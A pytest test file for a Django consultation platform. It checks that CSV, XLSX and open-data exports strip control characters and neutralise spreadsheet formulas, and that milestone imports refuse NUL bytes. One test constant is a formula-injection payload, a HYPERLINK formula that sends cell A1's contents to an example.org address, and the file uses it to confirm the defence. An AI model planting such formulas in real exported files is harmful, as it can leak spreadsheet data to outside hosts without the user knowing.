"""Every tabular export (CSV, XLSX, open data) goes through one cell sanitiser: a stored value
with a control character never breaks an export, and no text runs as a formula in a
spreadsheet. The milestone import refuses NUL bytes and cleans other control characters."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.core.files.storage import default_storage
from django.urls import reverse
from openpyxl import load_workbook

from concertation.accounts.scope import scope_for
from concertation.contributions.models import Contribution
from concertation.core import tabular
from concertation.projects import imports, services
from concertation.projects.models import Milestone
from concertation.registrations import services as registrations
from concertation.synthesis import opendata
from concertation.synthesis import package as packages
from concertation.synthesis.models import Package
from tests.factories import (
    EventFactory,
    MilestoneFactory,
    ProjectFactory,
    agency_organiser,
    applicant,
    make_territory,
    organiser_of,
)
from tests.synthesis.package_data import validated_synthesis

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://example.org/?"&A1,"Cliquez")'


@pytest.mark.parametrize(("value", "expected"), [
    ("Martin\x0bDurand", "Martin Durand"),
    ("a\x00b\x01c\x1fd", "abcd"),
    ("ligne\nsuivante\tet tabulation", "ligne\nsuivante\tet tabulation"),
    ("=1+1", "'=1+1"), ("+33 6", "'+33 6"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    # A control character in front of a formula does not hide it.
    ("\x0b=1", "' =1"), ("\x00=1", "'=1"),
    (42, 42), (None, None), ("", ""),
])
def test_cell(value, expected):
    assert tabular.cell(value) == expected


def test_every_sanitised_value_is_accepted_by_openpyxl():
    from openpyxl import Workbook

    sheet = Workbook().active
    sheet.append([tabular.cell("".join(chr(i) for i in range(32)) + "x")])


def test_registration_export_with_a_control_character_opens(client):
    event = EventFactory(open=True, capacity=10)
    registrations.register(event=event, applicant=applicant(last_name="Martin\x0bDurand"),
                           workshops=[])
    client.force_login(organiser_of(event.health_territory))
    response = client.get(reverse("registrations_backoffice:export", args=[event.pk, "xlsx"]))
    assert response.status_code == 200
    assert load_workbook(io.BytesIO(response.content)).active["D2"].value == "Martin Durand"
    response = client.get(reverse("registrations_backoffice:export", args=[event.pk, "csv"]))
    assert response.status_code == 200 and "\x0b" not in response.content.decode("utf-8-sig")


def test_contribution_export_with_a_control_character_opens(client):
    Contribution.objects.create(campaign=EventFactory().campaign, origin="online",
                                state="published", text="Un texte\x0bcollé depuis Word")
    response = client.get(reverse("contributions:export", args=["xlsx"]))
    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows[1][1] == "Un texte collé depuis Word"


def test_package_citing_a_control_character_is_built(django_capture_on_commit_callbacks):
    data = validated_synthesis()
    Contribution.objects.filter(pk=data["contributions"][0].pk).update(
        text="Plus de médecins\x0btraitants\x01 dans l’Ain")
    user = agency_organiser("84")
    with django_capture_on_commit_callbacks(execute=True):
        package = packages.request_package(scope=scope_for(user), user=user,
                                           synthesis=data["synthesis"])
    package.refresh_from_db()
    assert package.status == Package.Status.DONE, package.error


def test_open_data_neutralises_formulas(tmp_path):
    data = validated_synthesis()
    Contribution.objects.filter(pk=data["contributions"][3].pk).update(text=HYPERLINK)
    data["groups"][2].__class__.objects.filter(pk=data["groups"][2].pk).update(title=HYPERLINK)
    opendata.write(data["synthesis"], tmp_path)
    for name, column in (("contributions", "texte"), ("propositions", "intitule")):
        with open(tmp_path / f"{name}.csv", encoding="utf-8", newline="") as handle:
            values = [row[column] for row in csv.DictReader(handle)]
        assert "'" + HYPERLINK in values and HYPERLINK not in values


def test_package_zip_open_data_neutralises_formulas(django_capture_on_commit_callbacks):
    data = validated_synthesis()
    Contribution.objects.filter(pk=data["contributions"][3].pk).update(text=HYPERLINK)
    user = agency_organiser("84")
    with django_capture_on_commit_callbacks(execute=True):
        package = packages.request_package(scope=scope_for(user), user=user,
                                           synthesis=data["synthesis"])
    package.refresh_from_db()
    with default_storage.open(package.files["zip"]) as handle:
        archive = zipfile.ZipFile(io.BytesIO(handle.read()))
    name = next(n for n in archive.namelist() if n.endswith("donnees-ouvertes/contributions.csv"))
    texts = [row["texte"] for row in csv.DictReader(io.StringIO(
        archive.read(name).decode("utf-8"), newline=""))]
    assert "'" + HYPERLINK in texts and HYPERLINK not in texts


@pytest.fixture
def project():
    return ProjectFactory(health_territory=make_territory("28"), in_progress=True)


HEADER = ("projet;intitule_projet;etat_projet;cle_jalon;jalon;date_prevue;date_reelle;"
          "statut_jalon;poids;preuve_lien;preuve_note")


def test_milestone_import_refuses_nul_bytes(project):
    sheet = f"{HEADER}\n{project.slug};;;lancement;Lance\x00ment;;;;;;\n".encode()
    with pytest.raises(imports.SheetError, match="Caractère nul dans le fichier"):
        imports.read_sheet("jalons.csv", sheet)


def test_milestone_import_cleans_other_control_characters(client, project):
    user = organiser_of(project.health_territory)
    sheet = f"{HEADER}\n{project.slug};;;lancement;Lance\x0bment\x01;;;;;;Note\x1f;\n".encode()
    rows = imports.read_sheet("jalons.csv", sheet)
    _log, errors = services.import_sheet(scope=scope_for(user), user=user,
                                         filename="jalons.csv", rows=rows)
    assert errors == []
    milestone = Milestone.objects.get(project=project)
    assert (milestone.title, milestone.evidence_note) == ("Lance ment", "Note")
    assert client.get(project.get_absolute_url()).status_code == 200
    assert client.get(reverse("projects:open_data", args=["jalons.csv"])).status_code == 200
    client.force_login(user)
    response = client.get(reverse("projects_backoffice:export", args=["xlsx"]))
    assert response.status_code == 200
    load_workbook(io.BytesIO(response.content))


def test_milestone_exports_survive_a_stored_control_character(client, project):
    # A value stored before the import cleaned its text (or written past it) still exports.
    MilestoneFactory(project=project, title="Jalon\x0bancien", evidence_note="=1+1\x01")
    assert client.get(project.get_absolute_url()).status_code == 200
    assert client.get(reverse("projects:open_data", args=["jalons.csv"])).status_code == 200
    client.force_login(organiser_of(project.health_territory))
    assert client.get(reverse("projects_backoffice:export", args=["csv"])).status_code == 200
    response = client.get(reverse("projects_backoffice:export", args=["xlsx"]))
    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(response.content))["Jalons"].iter_rows(
        values_only=True))
    assert rows[1][4] == "Jalon ancien" and rows[1][10] == "'=1+1"


def test_milestone_import_page_says_why_a_nul_byte_is_refused(client, project):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client.force_login(organiser_of(project.health_territory))
    sheet = "\ufeffprojet;cle_jalon\n".encode("utf-16")
    response = client.post(reverse("projects_backoffice:import"),
                           {"sheet": SimpleUploadedFile("jalons.csv", sheet)})
    assert response.status_code == 400
    assert "Caractère nul dans le fichier" in response.content.decode()
    assert not Milestone.objects.exists()


def test_the_shared_writers_sanitise_every_cell_of_csv_and_xlsx():
    import csv as csv_module
    import io as io_module

    from openpyxl import load_workbook

    from concertation.core import tabular as shared

    data = [[1, "=HYPERLINK(\"x\")", "a\x0bb\x00"]]
    text = shared.csv_bytes(["n", "formule", "texte"], data).decode()
    assert text.startswith("\ufeff")
    assert list(csv_module.reader(io_module.StringIO(text[1:]), delimiter=";")) == [
        ["n", "formule", "texte"], ["1", "'=HYPERLINK(\"x\")", "a b"]]
    book = load_workbook(io_module.BytesIO(shared.xlsx_bytes("Feuille", ["n", "formule",
                                                                         "texte"], data)))
    assert [list(r) for r in book["Feuille"].iter_rows(values_only=True)] == [
        ["n", "formule", "texte"], [1, "'=HYPERLINK(\"x\")", "a b"]]


def test_the_one_writer_lays_out_every_export_alike():
    import datetime as dt
    from zoneinfo import ZoneInfo

    noon_utc = dt.datetime(2024, 12, 12, 11, 0, tzinfo=ZoneInfo("UTC"))
    sheets = [tabular.Sheet("Régions", ["Code", "Nom", "Le"], [["84", "=1+1", noon_utc]],
                            widths=(10, 30)),
              tabular.Sheet("Journées", ["Date"], [[dt.date(2022, 11, 25)], [None]])]
    book = load_workbook(io.BytesIO(tabular.write_xlsx(sheets, title="Essai")))
    regions, days = book["Régions"], book["Journées"]
    assert regions["A1"].font.bold and regions.freeze_panes == "A2"
    assert regions.column_dimensions["B"].width == 30
    assert regions["B2"].value == "'=1+1"  # never a formula
    # Times as read in France (a spreadsheet has no time zone), dates shown the French way.
    assert regions["C2"].value == dt.datetime(2024, 12, 12, 12, 0)
    assert days["A2"].number_format == "DD/MM/YYYY"
    assert book.properties.title == "Essai"
    text = tabular.write_csv(sheets).decode()
    assert text.startswith("\ufeffRégions\r\nCode;Nom;Le\r\n84;'=1+1;12/12/2024 12:00\r\n")
    assert text.endswith("\r\n\r\nJournées\r\nDate\r\n25/11/2022\r\n\"\"\r\n")
    # Open data: one table, no byte-order mark, the delimiter asked.
    assert tabular.write_csv([sheets[1]], delimiter=",", bom=False) == (
        b'Date\r\n25/11/2022\r\n""\r\n')
